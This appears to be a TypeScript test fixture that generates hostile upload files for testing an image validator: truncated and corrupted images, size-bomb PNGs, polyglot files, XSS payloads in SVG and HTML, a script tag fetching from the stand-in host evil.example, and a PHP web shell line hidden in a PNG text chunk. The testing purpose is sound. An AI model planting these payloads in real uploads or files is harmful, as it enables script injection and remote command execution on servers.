import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { MOST_PICTURE_BYTES } from "../../contract/pictures";

/** Numbers between 0 and 1 that are the same for the same seed (mulberry32). */
function numbersFrom(seed: number): () => number {
  let state = seed + 0x6d2b79f5;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
type Chance = ReturnType<typeof numbersFrom>;

const between = (chance: Chance, least: number, most: number) => Math.floor(least + chance() * (most - least));
const noise = (chance: Chance, length: number) => Buffer.from(Array.from({ length }, () => between(chance, 0, 256)));

/** A picture of noise, so that its compressed data is long enough to be cut. */
export function drawing(chance: Chance, width = 120, height = 90) {
  return sharp(noise(chance, width * height * 3), { raw: { width, height, channels: 3 } });
}

function chunk(name: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(name, "latin1"), data]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

const PNG_START = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG of a few kilobytes that has the pixels its header claims, or only claims them. */
function blankPng(width: number, height: number, rows = height): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8);
  const row = Math.ceil(width / 8) + 1;
  const data = deflateSync(Buffer.alloc(row * Math.min(rows, 20_000)), { level: 9 });
  return Buffer.concat([PNG_START, chunk("IHDR", header), chunk("IDAT", data), chunk("IEND", Buffer.alloc(0))]);
}

const withComment = (jpeg: Buffer, text: string) => {
  const comment = Buffer.from(`\xff\xfe\0\0${text}`, "latin1");
  comment.writeUInt16BE(comment.length - 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
};

/** An empty ZIP, whose end also marks a JAR. */
const ZIP_END = Buffer.concat([Buffer.from("PK\x05\x06", "latin1"), Buffer.alloc(18)]);

const cut = (bytes: Buffer, chance: Chance) =>
  bytes.subarray(0, between(chance, bytes.length * 0.3, bytes.length * 0.9));

const box = (type: string, rest: string) => {
  const data = Buffer.from(`\0\0\0\0${type}${rest}`, "latin1");
  data.writeUInt32BE(data.length);
  return data;
};

/** Makes one hostile file of each kind. */
const KINDS: Readonly<Record<string, (chance: Chance) => Buffer | Promise<Buffer>>> = {
  "no bytes": () => Buffer.alloc(0),
  "a few bytes": (chance) => noise(chance, between(chance, 1, 12)),
  "bytes of nothing": (chance) => noise(chance, between(chance, 100, 50_000)),
  "a text": (chance) => Buffer.from("It flies. ".repeat(between(chance, 1, 2_000))),
  "an SVG with a script": () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  "an SVG behind an XML line": () =>
    Buffer.from(
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"/>',
    ),
  "a web page": () => Buffer.from("<!DOCTYPE html><html><script>alert(1)</script></html>"),
  "a PDF": () => Buffer.from("%PDF-1.7\n1 0 obj\n<</Type /Catalog>>\nendobj\n"),
  "a ZIP": (chance) => Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), noise(chance, 300), ZIP_END]),
  "a BMP": (chance) => Buffer.concat([Buffer.from("BM"), noise(chance, 900)]),
  "a GIF": (chance) => drawing(chance).gif().toBuffer(),
  "a GIF with a script": () => Buffer.from("GIF89a=1;alert(1)/*\0\0\0*/"),
  "a TIFF": (chance) => drawing(chance).tiff().toBuffer(),
  "a HEIC": (chance) => Buffer.concat([box("ftyp", "heic\0\0\0\0mif1heic"), noise(chance, 5_000)]),
  "a picture that moves": async (chance) => {
    const frames = await Promise.all([drawing(chance).png().toBuffer(), drawing(chance).png().toBuffer()]);
    return sharp(frames, { join: { animated: true } })
      .webp()
      .toBuffer();
  },
  "a PNG that says it is enormous": (chance) =>
    blankPng(between(chance, 20_000, 60_000), between(chance, 20_000, 60_000), 10),
  "a PNG that is enormous": (chance) => blankPng(between(chance, 7_200, 9_000), 7_200),
  "a PNG of one long line": (chance) => blankPng(between(chance, 51_000_000, 99_000_000), 1),
  "a JPEG that says it is enormous": async (chance) => {
    const jpeg = await drawing(chance).jpeg().toBuffer();
    const size = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
    jpeg.writeUInt16BE(65_000, size + 5);
    jpeg.writeUInt16BE(65_000, size + 7);
    return jpeg;
  },
  "a JPEG that is cut off": async (chance) => cut(await drawing(chance).jpeg().toBuffer(), chance),
  "a PNG that is cut off": async (chance) => cut(await drawing(chance).png().toBuffer(), chance),
  "a WebP that is cut off": async (chance) => cut(await drawing(chance).webp().toBuffer(), chance),
  "an AVIF that is cut off": async (chance) => cut(await drawing(chance).avif({ effort: 0 }).toBuffer(), chance),
  "a PNG with a byte changed": async (chance) => {
    const png = await drawing(chance).png().toBuffer();
    const at = between(chance, 60, png.length - 60);
    png.writeUInt8((png.readUInt8(at) + 1) % 256, at);
    return png;
  },
  "the beginning of a JPEG": (chance) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), noise(chance, 3_000)]),
  "a JPEG and a web page": async (chance) =>
    withComment(await drawing(chance).jpeg().toBuffer(), "<html><script>alert(document.domain)</script>"),
  "a JPEG and a web page behind it": async (chance) =>
    Buffer.concat([await drawing(chance).jpeg().toBuffer(), Buffer.from("\n<Script src=//evil.example></script>")]),
  "a JPEG and a JAR": async (chance) =>
    Buffer.concat([await drawing(chance).jpeg().toBuffer(), Buffer.from("PK\x03\x04x", "latin1"), ZIP_END]),
  "a PNG and a JAR": async (chance) => Buffer.concat([await drawing(chance).png().toBuffer(), ZIP_END]),
  "a JPEG and a PDF": async (chance) => withComment(await drawing(chance).jpeg().toBuffer(), "%PDF-1.4 1 0 obj"),
  "a PNG and a program": async (chance) => {
    const png = await drawing(chance).png().toBuffer();
    const text = chunk("tEXt", Buffer.from("Comment\0<?php system($_GET[0]); ?>", "latin1"));
    return Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]);
  },
  "a JPEG of more than 15 MB": async (chance) =>
    Buffer.concat([await drawing(chance).jpeg().toBuffer(), Buffer.alloc(MOST_PICTURE_BYTES)]),
};

/** This many hostile files, of each kind in turn, the same each time. */
export async function* hostileFiles(count: number): AsyncGenerator<{ kind: string; bytes: Buffer }> {
  const kinds = Object.entries(KINDS);
  for (let place = 0; place < count; place += 1) {
    const [kind, make] = kinds[place % kinds.length] as (typeof kinds)[number];
    yield { kind, bytes: await make(numbersFrom(place)) };
  }
}

export const HOSTILE_KINDS = Object.keys(KINDS).length;

export const chanceOf = numbersFrom;
